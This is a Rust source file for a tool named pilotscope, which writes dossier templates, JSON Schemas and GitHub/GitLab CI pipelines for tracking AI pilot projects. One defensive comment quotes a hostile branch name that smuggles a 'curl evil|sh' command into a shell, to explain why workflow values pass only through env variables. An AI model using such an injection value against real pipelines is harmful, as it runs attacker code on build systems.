//! Writing new files for people to fill in: `pilotscope new` (a dossier with
//! every question), `pilotscope init` (a new dossier repository) and
//! `pilotscope schema` (a JSON Schema of the front matter for editors).
//! Everything is generated from [`schema::FIELDS`], so the three never drift
//! from what the reader accepts.

use std::fmt::Write as _;
use std::path::{Path, PathBuf};

use serde_json::{Value as Json, json};

use crate::dossier::schema::{self, FIELDS, Kind};

/// A dossier with every question of the format present and unanswered, and
/// a comment saying what each asks.
pub fn new_dossier(title: &str, stage: &str, updated: jiff::civil::Date) -> String {
    let mut out = String::from("---\n");
    let quoted = serde_json::to_string(title).unwrap_or_else(|_| "\"\"".into());
    let mut open_sections: Vec<&str> = Vec::new();
    for f in FIELDS {
        let section = f.section();
        // Open every section on the way to this field.
        let parts: Vec<&str> = if section.is_empty() {
            Vec::new()
        } else {
            section.split('.').collect()
        };
        let mut depth = 0;
        while depth < parts.len()
            && depth < open_sections.len()
            && open_sections[depth] == parts[depth]
        {
            depth += 1;
        }
        open_sections.truncate(depth);
        for (i, p) in parts.iter().enumerate().skip(depth) {
            if i == 0 {
                out.push('\n');
            }
            let _ = writeln!(out, "{}{p}:", "  ".repeat(i));
            open_sections.push(p);
        }
        let indent = "  ".repeat(parts.len());
        let value = match f.path {
            "title" => quoted.clone(),
            "stage" => stage.to_string(),
            "updated" => updated.to_string(),
            _ => String::new(),
        };
        let hint = match f.kind {
            Kind::Date => " (YYYY-MM-DD)".to_string(),
            Kind::Share => " (0 to 1, or \"82%\")".to_string(),
            Kind::Bool => " (true or false)".to_string(),
            Kind::Choice(words) if f.path != "stage" => format!(" ({})", words.join(" | ")),
            Kind::TextList => " (a list: [first, second])".to_string(),
            _ => String::new(),
        };
        let line = format!("{indent}{}: {value}", f.key());
        let _ = writeln!(out, "{line:<33} # {}{hint}", f.question);
        match f.kind {
            Kind::Gaps => {
                let _ = writeln!(
                    out,
                    "{indent}  # - {{gap: Supplier ids differ between plants, addressed: false}}"
                );
            }
            Kind::Kpis => {
                for l in [
                    "- name: Invoice cycle time",
                    "  unit: days",
                    "  baseline: 6.5",
                    "  target: 3",
                    "  direction: lower",
                    "  actual:",
                    "  owner:",
                ] {
                    let _ = writeln!(out, "{indent}  # {l}");
                }
            }
            _ => {}
        }
    }
    out.push_str("---\n\n## What the pilot is for\n\nWrite the pilot's story here: the problem, who it is for, what has happened so far.\n");
    out
}

/// Writes a new dossier for `title` under `content`, reviewed as of
/// `updated`. Never overwrites. Messages name paths with `show`.
pub fn write_new(
    content: &Path,
    title: &str,
    stage: &str,
    updated: jiff::civil::Date,
    show: impl Fn(&Path) -> String,
) -> Result<PathBuf, String> {
    let slug = slug::slugify(title);
    let slug = if slug.is_empty() {
        "pilot".to_string()
    } else {
        slug
    };
    let path = content.join(format!("{slug}.md"));
    std::fs::create_dir_all(content)
        .map_err(|e| format!("cannot create {}: {e}", show(content)))?;
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .open(&path)
        .map_err(|e| {
            if e.kind() == std::io::ErrorKind::AlreadyExists {
                format!(
                    "{} already exists; it was left as it is\nhelp: give the pilot another title, or edit that file",
                    show(&path)
                )
            } else {
                format!("cannot write {}: {e}", show(&path))
            }
        })?;
    use std::io::Write;
    file.write_all(new_dossier(title, stage, updated).as_bytes())
        .map_err(|e| format!("cannot write {}: {e}", show(&path)))?;
    Ok(path)
}

/// A string of spaces only: every answer may be left blank (unanswered),
/// as the reader allows.
fn blank() -> Json {
    json!({"type": "string", "pattern": "^\\s*$"})
}

/// A number written as text (`"120000"`), which the reader takes as the
/// number; with `signed`, a minus sign too.
fn number_text(signed: bool) -> Json {
    let sign = if signed { "[+-]?" } else { "\\+?" };
    json!({"type": "string", "pattern": format!("^\\s*{sign}([0-9]+\\.?[0-9]*|\\.[0-9]+)\\s*$")})
}

/// The schema of one answer of kind `kind` at `path`: what the reader
/// accepts, no more and no less (`tests/it/schema.rs` runs every fixture,
/// the bad and hostile corpora and generated dossiers through both).
fn kind_schema(kind: Kind, path: &str, description: &str) -> Json {
    let any_of = |mut shapes: Vec<Json>| {
        shapes.push(blank());
        shapes.push(json!({"type": "null"}));
        json!({"anyOf": shapes})
    };
    let mut s = match kind {
        // Text keeps numbers, booleans and dates as written.
        Kind::Text | Kind::TextOrNumber => {
            json!({"type": ["string", "number", "boolean", "null"]})
        }
        Kind::Date => any_of(vec![json!({
            "type": "string",
            "pattern": "^[0-9]{4}-[0-9]{2}-[0-9]{2}$",
            "format": "date"
        })]),
        Kind::Share => any_of(vec![
            json!({"type": "number", "minimum": 0, "maximum": 1}),
            json!({"type": "string", "pattern": "^\\s*\\+?(100(\\.0*)?|[0-9]{1,2}(\\.[0-9]*)?|\\.[0-9]+)\\s*%\\s*$"}),
            json!({"type": "string", "pattern": "^\\s*\\+?(0+(\\.[0-9]*)?|0*\\.[0-9]+|0*1(\\.0*)?)\\s*$"}),
        ]),
        // A budget cannot be negative.
        Kind::Number if path == "budget" => any_of(vec![
            json!({"type": "number", "minimum": 0}),
            number_text(false),
        ]),
        Kind::Number => any_of(vec![json!({"type": "number"}), number_text(true)]),
        Kind::Bool => any_of(vec![json!({"type": "boolean"})]),
        Kind::Choice(words) => {
            let values: Vec<Json> = words.iter().map(|w| json!(w)).collect();
            any_of(vec![json!({"enum": values})])
        }
        Kind::TextList => json!({"oneOf": [
            {"type": "array", "items": {"type": ["string", "number", "boolean", "null"]}},
            {"type": "string"},
            {"type": "null"}
        ]}),
        Kind::Gaps => json!({"type": ["array", "null"], "items": {"anyOf": [
            {"type": ["string", "null"]},
            {"type": "object", "properties": {
                "gap": kind_schema(Kind::Text, "", "The gap, in a few words."),
                "addressed": kind_schema(Kind::Bool, "", "Whether the gap is addressed.")
            }}
        ]}}),
        Kind::Kpis => {
            let props: serde_json::Map<String, Json> = schema::KPI_KEYS
                .iter()
                .map(|(k, kind)| (k.to_string(), kind_schema(*kind, k, "")))
                .collect();
            json!({"type": ["array", "null"], "items": {"anyOf": [
                {"type": "object", "properties": props},
                {"type": "null"}
            ]}})
        }
    };
    if !description.is_empty() {
        s["description"] = json!(description);
    }
    s
}

/// The `$id` of the front matter's schema: a name, not an address to
/// fetch (editors are pointed at the file `pilotscope schema` writes).
pub const SCHEMA_ID: &str = "urn:pilotscope:schema:dossier:1";

/// A JSON Schema (draft 2020-12) of the front matter.
pub fn json_schema() -> Json {
    let mut root = json!({
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": SCHEMA_ID,
        "title": "pilotscope dossier front matter",
        "description": "The answers of one AI pilot's dossier. Unknown keys are allowed.",
        "type": "object",
        "required": ["title", "stage"],
        "properties": {}
    });
    for f in FIELDS {
        let mut node = &mut root;
        for part in f.section().split('.').filter(|p| !p.is_empty()) {
            let props = node["properties"]
                .as_object_mut()
                .expect("properties is an object");
            node = props
                .entry(part.to_string())
                .or_insert_with(|| json!({"type": ["object", "null"], "properties": {}}));
        }
        node["properties"][f.key()] = kind_schema(f.kind, f.path, f.question);
    }
    // The title and stage must be given: no blank, no null.
    let title = &mut root["properties"]["title"];
    title.as_object_mut().expect("title").remove("type");
    title["anyOf"] = json!([
        {"type": "string", "pattern": "\\S"},
        {"type": ["number", "boolean"]}
    ]);
    let stage = &mut root["properties"]["stage"];
    let words: Vec<Json> = schema::STAGES.iter().map(|w| json!(w)).collect();
    stage.as_object_mut().expect("stage").remove("anyOf");
    stage["enum"] = json!(words);
    root
}

/// Which file a schema describes: `pilotscope schema [WHAT]`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SchemaOf {
    /// A dossier's front matter.
    Dossier,
    /// `pilotscope.toml`.
    Config,
    /// A project's framework file.
    Framework,
}

/// The schema of `what`.
pub fn schema_of(what: SchemaOf) -> Json {
    match what {
        SchemaOf::Dossier => json_schema(),
        SchemaOf::Config => config_schema(),
        SchemaOf::Framework => framework_schema(),
    }
}

/// A JSON Schema of `pilotscope.toml` (Taplo and Even Better TOML read it
/// through the `#:schema` line `init` writes). Every key of
/// [`crate::config::KEYS`], no other.
pub fn config_schema() -> Json {
    let text = |d: &str| json!({"type": "string", "description": d});
    let folder = text;
    let schema = json!({
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": "urn:pilotscope:schema:config:1",
        "title": "pilotscope.toml",
        "description": "The configuration of a pilotscope project. Every key is optional.",
        "type": "object",
        "additionalProperties": false,
        "properties": {
            "title": text("Title of the site."),
            "base_url": text("The address the site is published at, such as https://intranet.example.com/pilots/."),
            "content_dir": folder("Folder of dossiers, relative to the project root."),
            "output_dir": folder("Folder the site is written to, relative to the project root."),
            "currency": text("Currency of budgets: an ISO code (EUR) or a symbol (€)."),
            "repo_url": text("Web address of the repository holding the dossiers, for source and edit links."),
            "repo_branch": text("Branch for those links."),
            "stale_days": {"type": "integer", "minimum": 0, "description": "Answers older than this many days are flagged stale."},
            "framework": text("Your own rules, merged over the built-in framework (relative to the project root)."),
            "faq": text("The FAQ page, relative to the content folder."),
            "templates_dir": folder("Folder of template overrides, relative to the project root."),
            "paper": {"enum": ["A4", "a4", "letter", "Letter"], "description": "Paper size of the board pack."},
            "pack_pilots": {"type": "integer", "minimum": 0, "description": "How many pilots get a sheet in the board pack, those the board needs first."},
            "history": {"type": "boolean", "description": "Whether the site shows the portfolio over time, read from git."},
            "history_since": {"type": "string", "pattern": "^[0-9]{4}-[0-9]{2}-[0-9]{2}$", "description": "History starts here (YYYY-MM-DD)."},
            "history_authors": {"type": "boolean", "description": "Whether history names the author of each change."}
        }
    });
    debug_assert_eq!(
        schema["properties"].as_object().map(|p| p.len()),
        Some(crate::config::KEYS.len())
    );
    schema
}

/// A JSON Schema of a project's framework file (`framework.toml`): its
/// shape, as the framework loader reads it; which field names and check
/// ids exist the loader says, with a suggestion.
pub fn framework_schema() -> Json {
    let stages = json!({
        "type": "object",
        "additionalProperties": false,
        "properties": {
            "proposed": {"$ref": "#/$defs/severity"},
            "pilot": {"$ref": "#/$defs/severity"},
            "scaling": {"$ref": "#/$defs/severity"},
            "production": {"$ref": "#/$defs/severity"}
        }
    });
    let fields = json!({"type": "array", "items": {"type": "string"}});
    let threshold = json!({
        "type": "object", "additionalProperties": false, "required": ["field", "value"],
        "properties": {"field": {"type": "string"}, "value": {"type": "number"}}
    });
    let literal = json!({"type": ["string", "boolean"]});
    json!({
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": "urn:pilotscope:schema:framework:1",
        "title": "pilotscope framework",
        "description": "Rules merged over pilotscope's built-in five-mistake framework.",
        "type": "object",
        "additionalProperties": false,
        "properties": {
            "replace_defaults": {"type": "boolean", "description": "Start from no checks instead of the built-in ones."},
            "ready_at": {"type": "integer", "minimum": 0, "description": "Readiness score a pilot needs (with no mistake active) to be ready."},
            "weights": {
                "type": "object", "additionalProperties": false,
                "properties": {
                    "blocker": {"type": "integer", "minimum": 0},
                    "major": {"type": "integer", "minimum": 0},
                    "minor": {"type": "integer", "minimum": 0}
                }
            },
            "mistakes": {"type": "array", "items": {
                "type": "object", "additionalProperties": false, "required": ["id"],
                "properties": {
                    "id": {"enum": ["framing", "data", "governance", "change", "metrics"]},
                    "name": {"type": "string"},
                    "summary": {"type": "string"},
                    "root_cause": {"type": "string"},
                    "fix": {"type": "string"},
                    "fix_short": {"type": "string", "description": "The fix in a few words, for the portfolio table."}
                }
            }},
            "checks": {"type": "array", "items": {
                "type": "object", "additionalProperties": false, "required": ["id"],
                "properties": {
                    "id": {"type": "string", "minLength": 1},
                    "mistake": {"enum": ["framing", "data", "governance", "change", "metrics"]},
                    "title": {"type": "string"},
                    "question": {"type": "string"},
                    "remedy": {"type": "string"},
                    "enabled": {"type": "boolean"},
                    "severity": stages,
                    "pass_when": {"$ref": "#/$defs/condition"},
                    "threshold": {"type": "number"}
                }
            }}
        },
        "$defs": {
            "severity": {"enum": ["blocker", "major", "minor", "-", "none"]},
            "condition": {
                "type": "object", "additionalProperties": false,
                "properties": {
                    "answered": {"type": "string"},
                    "all_answered": fields,
                    "is": {
                        "type": "object", "additionalProperties": false, "required": ["field"],
                        "properties": {"field": {"type": "string"}, "value": literal, "values": {"type": "array", "items": literal}}
                    },
                    "at_least": threshold,
                    "at_most": threshold,
                    "on_or_before": fields,
                    "all_addressed": {"type": "string"},
                    "either": {"type": "array", "items": {"$ref": "#/$defs/condition"}},
                    "when": {"$ref": "#/$defs/condition"},
                    "then": {"$ref": "#/$defs/condition"},
                    "kpis_have": fields,
                    "kpis_meet_targets": {"type": "boolean"}
                }
            }
        }
    })
}

/// The example dossier and FAQ that `init` writes.
pub const EXAMPLE_DOSSIER: &str = include_str!("../content/supplier-invoice-matching.md");

/// Where `init` writes the example: a name starting with `_` is not read as
/// a dossier, so the example teaches every answer without counting as one
/// of the team's pilots in any figure.
pub const EXAMPLE_PATH: &str = "content/_example.md";

/// What `init` says at the top of the example's front matter.
const EXAMPLE_NOTE: &str = "# An example with every answer filled in. Its name starts with `_`, so
# pilotscope does not read it as a pilot: it is in no figure and has no page.
# Start your own with `pilotscope new \"Title of the pilot\"`, copy answers from
# here as you need them, and delete this file when you no longer need it.
";

/// The example dossier as `init` writes it: the shipped example, with the
/// note above its first answer.
pub fn example_dossier() -> String {
    let (fence, rest) = EXAMPLE_DOSSIER
        .split_once('\n')
        .expect("the example has front matter");
    format!("{fence}\n{EXAMPLE_NOTE}{rest}")
}
pub const EXAMPLE_FAQ: &str = include_str!("../content/faq.md");

const INIT_CONFIG: &str = r#"#:schema ./schemas/pilotscope.toml.json
# pilotscope configuration. Every key is optional; these are the defaults
# except the title.
title = "AI pilot portfolio"
# base_url = "https://intranet.example.com/pilots/"   # adds canonical links
content_dir = "content"
output_dir = "site"
currency = "USD"
# repo_url = "https://git.example.com/ops/pilots"     # adds source and edit links
# repo_branch = "main"
stale_days = 90
# framework = "framework.toml"                          # your own rules, merged over the defaults
#   (start it with `#:schema ./schemas/framework.toml.json` for your editor)
"#;

/// The CI workflow `init` writes for GitHub. `@DIR@` is the project's
/// folder inside the git work tree (`.` at its root) and `@SITE@` the site
/// folder from there, both written as quoted YAML strings; `@INSTALL@` the
/// steps that install pilotscope, the same in both jobs.
///
/// Values from GitHub's contexts reach a shell only through `env:`, never
/// written into a script (a branch may be named `a";curl evil|sh;"`).
const INIT_WORKFLOW: &str = r#"# pilotscope: checks the dossiers of every pull request, with each problem
# shown on the line that causes it, says what the pull request changes in
# the verdicts, and publishes the site, with its history, from the
# repository's default branch. The whole history is checked out
# (fetch-depth: 0): history and diff read it.
#
# Before the first run (Settings > Secrets and variables > Actions > Variables):
#   PILOTSCOPE_GIT      address of the git repository pilotscope comes from
#   PILOTSCOPE_VERSION  optional: a release to download (such as v0.2.0);
#                       without it, pilotscope is compiled from PILOTSCOPE_GIT
#   PILOTSCOPE_REV      optional: the commit or tag to compile (default: newest)
# The binary is cached under the release or commit it is, so a new release
# or commit is installed on the next run. Under Settings > Pages, choose
# "GitHub Actions" as the source.
name: pilotscope
on:
  pull_request:
  push:
permissions:
  contents: read
concurrency:
  group: pilotscope-${{ github.ref }}
  # A newer push replaces a pull request's run; publishing the default
  # branch is never cut short.
  cancel-in-progress: ${{ github.ref_name != github.event.repository.default_branch }}
defaults:
  run:
    working-directory: @DIR@
jobs:
  check:
    # Pull requests, and pushes to the default branch (whatever its name).
    if: github.event_name == 'pull_request' || github.ref_name == github.event.repository.default_branch
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
          persist-credentials: false
@INSTALL@
      # Fails only on dossiers that cannot be read; a new, unanswered dossier
      # is a normal first step and passes.
      - name: Check dossiers
        run: pilotscope check --format github
      - name: Portfolio summary
        if: always()
        run: |
          { echo '```'; pilotscope check || true; echo '```'; } >> "$GITHUB_STEP_SUMMARY"
      # What the pull request does to the verdicts, as a table in the job
      # summary; then the job fails only for what it made worse (a verdict,
      # a readiness, or a dossier that can no longer be read).
      - name: What this pull request changes
        if: always() && github.event_name == 'pull_request'
        env:
          BASE_REF: ${{ github.base_ref }}
        run: pilotscope diff "origin/$BASE_REF" --format markdown >> "$GITHUB_STEP_SUMMARY"
      - name: Fail on what this pull request made worse
        if: github.event_name == 'pull_request'
        env:
          BASE_REF: ${{ github.base_ref }}
        run: pilotscope diff "origin/$BASE_REF" --fail-on regression
  publish:
    if: github.event_name == 'push' && github.ref_name == github.event.repository.default_branch
    needs: check
    runs-on: ubuntu-latest
    permissions:
      contents: read
      pages: write
      id-token: write
    environment:
      name: github-pages
      url: ${{ steps.deploy.outputs.page_url }}
    steps:
      - uses: actions/checkout@v4
        with:
          fetch-depth: 0
          persist-credentials: false
@INSTALL@
      - name: Find the site's address
        id: pages
        uses: actions/configure-pages@v5
      # The address Pages gives (owner.github.io/repo), so that links from
      # pages at any depth, such as the 404 page, lead into the site.
      - name: Build the site
        env:
          BASE_URL: ${{ steps.pages.outputs.base_url }}
        run: pilotscope build ${BASE_URL:+--base-url "$BASE_URL/"}
      # Leaves out hidden files: pilotscope's manifest and history cache
      # are not for publishing.
      - uses: actions/upload-pages-artifact@v4
        with:
          path: @SITE@
      - name: Publish the site
        id: deploy
        uses: actions/deploy-pages@v4
"#;

/// The steps of [`INIT_WORKFLOW`] that install pilotscope: a released
/// binary, checked against its checksum, when `PILOTSCOPE_VERSION` pins
/// one; else compiled with cargo. The cache key names the repository and
/// the release or commit (the newest is asked of the repository), and the
/// binary is saved as soon as it is installed, so a failing job does not
/// compile it again on its next run.
const INIT_INSTALL_STEPS: &str = r#"      - name: Which pilotscope
        id: which
        working-directory: .
        env:
          PILOTSCOPE_GIT: ${{ vars.PILOTSCOPE_GIT }}
          PILOTSCOPE_VERSION: ${{ vars.PILOTSCOPE_VERSION }}
          PILOTSCOPE_REV: ${{ vars.PILOTSCOPE_REV }}
        run: |
          if [ -z "$PILOTSCOPE_GIT" ]; then
            echo "::error::Set the repository variable PILOTSCOPE_GIT to the address of pilotscope's git repository"
            exit 1
          fi
          rev=""
          if [ -n "$PILOTSCOPE_VERSION" ]; then
            what="release $PILOTSCOPE_VERSION"
          else
            rev=$(git ls-remote "$PILOTSCOPE_GIT" "${PILOTSCOPE_REV:-HEAD}" | head -n 1 | cut -f 1)
            rev=${rev:-$PILOTSCOPE_REV}
            what="commit $rev"
          fi
          key=$(printf '%s\n%s\n' "$PILOTSCOPE_GIT" "$what" | sha256sum | cut -c 1-16)
          echo "rev=$rev" >> "$GITHUB_OUTPUT"
          echo "key=pilotscope-$RUNNER_OS-$RUNNER_ARCH-$key" >> "$GITHUB_OUTPUT"
      - name: Restore pilotscope
        id: cache
        uses: actions/cache/restore@v4
        with:
          path: ~/.cargo/bin/pilotscope
          key: ${{ steps.which.outputs.key }}
      - name: Install pilotscope
        if: steps.cache.outputs.cache-hit != 'true'
        working-directory: ${{ runner.temp }}
        env:
          PILOTSCOPE_GIT: ${{ vars.PILOTSCOPE_GIT }}
          PILOTSCOPE_VERSION: ${{ vars.PILOTSCOPE_VERSION }}
          REV: ${{ steps.which.outputs.rev }}
        run: |
          mkdir -p ~/.cargo/bin
          if [ -n "$PILOTSCOPE_VERSION" ]; then
            name=pilotscope-x86_64-unknown-linux-musl
            url="${PILOTSCOPE_GIT%.git}/releases/download/$PILOTSCOPE_VERSION/$name.tar.xz"
            curl --proto '=https' -fsSL -o "$name.tar.xz" "$url"
            curl --proto '=https' -fsSL -o "$name.tar.xz.sha256" "$url.sha256"
            sha256sum -c "$name.tar.xz.sha256"
            tar -xJf "$name.tar.xz" -C ~/.cargo/bin --strip-components 1 "$name/pilotscope"
          else
            cargo install --locked --git "$PILOTSCOPE_GIT" ${REV:+--rev "$REV"} pilotscope
          fi
      - name: Keep pilotscope for the next run
        if: steps.cache.outputs.cache-hit != 'true'
        uses: actions/cache/save@v4
        with:
          path: ~/.cargo/bin/pilotscope
          key: ${{ steps.which.outputs.key }}"#;

/// The pipeline `init --ci gitlab` writes: what [`INIT_WORKFLOW`] does, on
/// GitLab. `@DIR@` as there. Problems go to the merge request's Code
/// Quality widget, the merge request's changes to an artifact shown on
/// it, the site to GitLab Pages from the default branch.
const INIT_GITLAB: &str = r#"# pilotscope: checks the dossiers of every merge request (each problem in
# the merge request's Code Quality report, at its line), says what the
# merge request changes in the verdicts, and publishes the site, with its
# history, on GitLab Pages from the default branch.
#
# Before the first run (Settings > CI/CD > Variables):
#   PILOTSCOPE_GIT      address of the git repository pilotscope comes from
#   PILOTSCOPE_VERSION  optional: a release to download (such as v0.2.0);
#                       without it, pilotscope is compiled from PILOTSCOPE_GIT
#   PILOTSCOPE_REV      optional: the commit or tag to compile (default: newest)
workflow:
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
  auto_cancel:
    on_new_commit: interruptible

stages:
  - check
  - publish

variables:
  # History and diff read the whole history.
  GIT_DEPTH: "0"
  PROJECT_DIR: @DIR@

# Installs pilotscope into .pilotscope-bin/, kept between pipelines (also
# when a job fails) with a note of the release or commit it is; a new
# release or commit is installed on the next run.
.pilotscope:
  image: rust:1-bookworm
  cache:
    key: pilotscope-bin
    paths:
      - .pilotscope-bin/
    when: always
  before_script:
    - |
      set -eu
      if [ -z "${PILOTSCOPE_GIT:-}" ]; then
        echo "Set the CI/CD variable PILOTSCOPE_GIT to the address of pilotscope's git repository" >&2
        exit 1
      fi
      bin="$CI_PROJECT_DIR/.pilotscope-bin"
      rev=""
      if [ -n "${PILOTSCOPE_VERSION:-}" ]; then
        what="$PILOTSCOPE_GIT release $PILOTSCOPE_VERSION"
      else
        rev=$(git ls-remote "$PILOTSCOPE_GIT" "${PILOTSCOPE_REV:-HEAD}" | head -n 1 | cut -f 1)
        rev=${rev:-${PILOTSCOPE_REV:-}}
        what="$PILOTSCOPE_GIT commit $rev"
      fi
      if [ "$(cat "$bin/installed" 2>/dev/null)" != "$what" ] || [ ! -x "$bin/pilotscope" ]; then
        rm -rf "$bin" && mkdir -p "$bin"
        if [ -n "${PILOTSCOPE_VERSION:-}" ]; then
          name=pilotscope-x86_64-unknown-linux-musl
          url="${PILOTSCOPE_GIT%.git}/releases/download/$PILOTSCOPE_VERSION/$name.tar.xz"
          (cd "$bin" && curl --proto '=https' -fsSL -o "$name.tar.xz" "$url" \
            && curl --proto '=https' -fsSL -o "$name.tar.xz.sha256" "$url.sha256" \
            && sha256sum -c "$name.tar.xz.sha256" \
            && tar -xJf "$name.tar.xz" --strip-components 1 "$name/pilotscope" \
            && rm "$name.tar.xz" "$name.tar.xz.sha256")
        else
          cargo install --locked --root "$bin.cargo" --git "$PILOTSCOPE_GIT" ${rev:+--rev "$rev"} pilotscope
          mv "$bin.cargo/bin/pilotscope" "$bin/" && rm -rf "$bin.cargo"
        fi
        echo "$what" > "$bin/installed"
      fi
      export PATH="$bin:$PATH"
      cd "$PROJECT_DIR"

# Fails only on dossiers that cannot be read; a new, unanswered dossier is
# a normal first step and passes.
pilotscope-check:
  extends: .pilotscope
  stage: check
  interruptible: true
  script:
    - pilotscope check --format gitlab > "$CI_PROJECT_DIR/gl-code-quality-report.json" || true
    - pilotscope check
  artifacts:
    when: always
    reports:
      codequality: gl-code-quality-report.json

# What the merge request does to the verdicts, as a file on the merge
# request; the job fails only for what it made worse.
pilotscope-diff:
  extends: .pilotscope
  stage: check
  interruptible: true
  rules:
    - if: $CI_PIPELINE_SOURCE == "merge_request_event"
  script:
    - git fetch --quiet origin "$CI_MERGE_REQUEST_TARGET_BRANCH_NAME"
    - pilotscope diff "origin/$CI_MERGE_REQUEST_TARGET_BRANCH_NAME" --format markdown > "$CI_PROJECT_DIR/pilotscope-diff.md" || true
    - pilotscope diff "origin/$CI_MERGE_REQUEST_TARGET_BRANCH_NAME" --fail-on regression
  artifacts:
    when: always
    expose_as: pilotscope diff
    paths:
      - pilotscope-diff.md

# GitLab Pages publishes public/; pilotscope's own hidden files (its
# manifest and history cache) are left out.
pages:
  extends: .pilotscope
  stage: publish
  rules:
    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH
  script:
    - pilotscope build --output "$CI_PROJECT_DIR/public" ${CI_PAGES_URL:+--base-url "$CI_PAGES_URL/"}
    - find "$CI_PROJECT_DIR/public" -mindepth 1 -name '.*' -prune -exec rm -rf {} +
  artifacts:
    paths:
      - public
"#;

/// Which CI service `init` writes a pipeline for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ci {
    Github,
    Gitlab,
}

/// A string as a YAML scalar that reads back as exactly that string:
/// double-quoted with JSON's escapes, which YAML's double-quoted style
/// shares (`pilots #2`, `x: y`, `[br]` and `*star` would otherwise be a
/// comment, a mapping, a list and an alias).
fn yaml_string(s: &str) -> String {
    serde_json::to_string(s).unwrap_or_else(|_| "\".\"".into())
}

/// The `.gitignore` line that keeps the site out of git, added to a
/// `.gitignore` that exists and lacks it (returns the new text).
fn ignore_site(existing: &str, line: &str) -> Option<String> {
    if existing
        .lines()
        .any(|l| l.trim() == line || l.trim() == line.trim_start_matches('/'))
    {
        return None;
    }
    let mut text = existing.to_string();
    if !text.is_empty() && !text.ends_with('\n') {
        text.push('\n');
    }
    text.push_str("# The site pilotscope builds\n");
    text.push_str(line);
    text.push('\n');
    Some(text)
}

/// Creates a new dossier repository in `dir`; returns the files written.
/// A folder that is already a project (it has `pilotscope.toml`) is
/// refused, as `cargo init` refuses a folder with `Cargo.toml`: running it
/// again would only write the example back after the team deleted it.
/// Other files that exist (a `.gitignore`, a workflow) are kept.
///
/// `work_tree` is the root of the git work tree that will hold the project,
/// when it is not `dir` itself: GitHub reads workflows only from the work
/// tree's root, so the workflow goes there and runs in the project's folder.
pub fn init(
    dir: &Path,
    work_tree: Option<&Path>,
    ci: Ci,
    show: impl Fn(&Path) -> String,
) -> Result<Vec<PathBuf>, String> {
    let (workflow_dir, project_in_tree) = match work_tree.and_then(|w| {
        let rel = dir.strip_prefix(w).ok()?;
        Some((w, rel.to_string_lossy().replace('\\', "/")))
    }) {
        Some((w, rel)) if !rel.is_empty() => (w.to_path_buf(), rel),
        _ => (dir.to_path_buf(), ".".to_string()),
    };
    let site = if project_in_tree == "." {
        "site/".to_string()
    } else {
        format!("{project_in_tree}/site/")
    };
    let config = dir.join("pilotscope.toml");
    if config.exists() {
        return Err(format!(
            "{} is already a pilotscope project: {} exists\nhelp: `pilotscope new \"Title\"` adds a dossier; to start again, remove pilotscope.toml first",
            show(dir),
            show(&config)
        ));
    }
    let pipeline = match ci {
        Ci::Github => (
            workflow_dir.join(".github/workflows/pilotscope.yml"),
            INIT_WORKFLOW
                .replace("@INSTALL@", INIT_INSTALL_STEPS)
                .replace("@DIR@", &yaml_string(&project_in_tree))
                .replace("@SITE@", &yaml_string(&site)),
        ),
        Ci::Gitlab => (
            workflow_dir.join(".gitlab-ci.yml"),
            INIT_GITLAB.replace("@DIR@", &yaml_string(&project_in_tree)),
        ),
    };
    let schema_text = |what| {
        let mut text = serde_json::to_string_pretty(&schema_of(what)).unwrap_or_default();
        text.push('\n');
        text
    };
    let (config_schema, framework_schema) = (
        schema_text(SchemaOf::Config),
        schema_text(SchemaOf::Framework),
    );
    let example = example_dossier();
    let files: [(PathBuf, &str); 6] = [
        (config, INIT_CONFIG),
        // For editors: `#:schema` lines point here (Taplo, Even Better TOML).
        (dir.join("schemas/pilotscope.toml.json"), &config_schema),
        (dir.join("schemas/framework.toml.json"), &framework_schema),
        (dir.join(EXAMPLE_PATH), &example),
        (dir.join("content/faq.md"), EXAMPLE_FAQ),
        (pipeline.0, &pipeline.1),
    ];
    let mut written = Vec::new();
    for (path, text) in files {
        if path.exists() {
            continue;
        }
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent)
                .map_err(|e| format!("cannot create {}: {e}", show(parent)))?;
        }
        std::fs::write(&path, text).map_err(|e| format!("cannot write {}: {e}", show(&path)))?;
        written.push(path);
    }
    // The site is built output: a `.gitignore` that is there already gets
    // the line too.
    let ignore = dir.join(".gitignore");
    let existing = match std::fs::read_to_string(&ignore) {
        Ok(text) => Some(text),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
        Err(e) => return Err(format!("cannot read {}: {e}", show(&ignore))),
    };
    let text = match &existing {
        Some(text) => ignore_site(text, "/site/"),
        None => Some("/site/\n".to_string()),
    };
    if let Some(text) = text {
        std::fs::write(&ignore, text)
            .map_err(|e| format!("cannot write {}: {e}", show(&ignore)))?;
        written.push(ignore);
    }
    Ok(written)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_new_dossier_reads_cleanly_with_every_question_unanswered() {
        let text = new_dossier(
            "Claims triage: \"phase 2\"",
            "proposed",
            jiff::civil::date(2026, 11, 26),
        );
        let loaded = crate::dossier::load_text(text.as_bytes(), "content/x.md", "x.md", "x");
        assert!(loaded.diagnostics.is_empty(), "{:?}", loaded.diagnostics);
        let d = loaded.dossier.unwrap();
        assert_eq!(d.title, "Claims triage: \"phase 2\"");
        assert_eq!(d.answers.iter().filter(|a| a.is_some()).count(), 3);
        for f in FIELDS {
            assert!(
                text.contains(&format!("{}:", f.key())),
                "{} missing",
                f.path
            );
        }
    }

    #[test]
    fn folder_names_are_yaml_strings_that_read_back_as_written() {
        for name in [
            "pilots #2",
            "x: y",
            "[br]",
            "*star",
            "a\"b",
            "&anchor",
            "- dash",
            "'q'",
        ] {
            let line = format!("path: {}\n", yaml_string(name));
            let node = crate::dossier::tree::parse(
                &line,
                0..line.len(),
                crate::dossier::split::Format::Yaml,
            )
            .unwrap_or_else(|e| panic!("{name}: {}", e.message));
            let crate::dossier::tree::NodeKind::Map(entries) = &node.kind else {
                panic!("{name}")
            };
            assert_eq!(
                entries[0].1.kind,
